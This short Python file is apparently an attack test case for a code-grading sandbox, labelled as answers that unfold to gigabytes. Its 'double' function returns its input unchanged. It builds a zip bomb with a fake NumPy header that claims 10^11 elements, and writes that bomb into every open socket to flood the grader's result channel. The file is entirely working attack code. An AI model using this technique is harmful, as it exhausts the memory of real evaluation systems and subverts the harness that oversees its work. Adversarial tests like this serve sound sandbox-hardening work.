# attack: answers with a few bytes that unfold to gigabytes
# points: double=0 total=4
# %% double
import io, os, stat, zipfile
def double(x):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(40):
            archive.writestr(f"{number}.npy", b"\0" * 10**6 * 5)
        header = b"{'descr': '<f8', 'fortran_order': False, 'shape': (100000000000,), }"
        archive.writestr("index.npy", b"\x93NUMPY\1\0" + len(header).to_bytes(2, "little") + header)
    data = file.getvalue()
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                os.write(number, len(data).to_bytes(8) + data)
        except OSError:
            pass
    return x
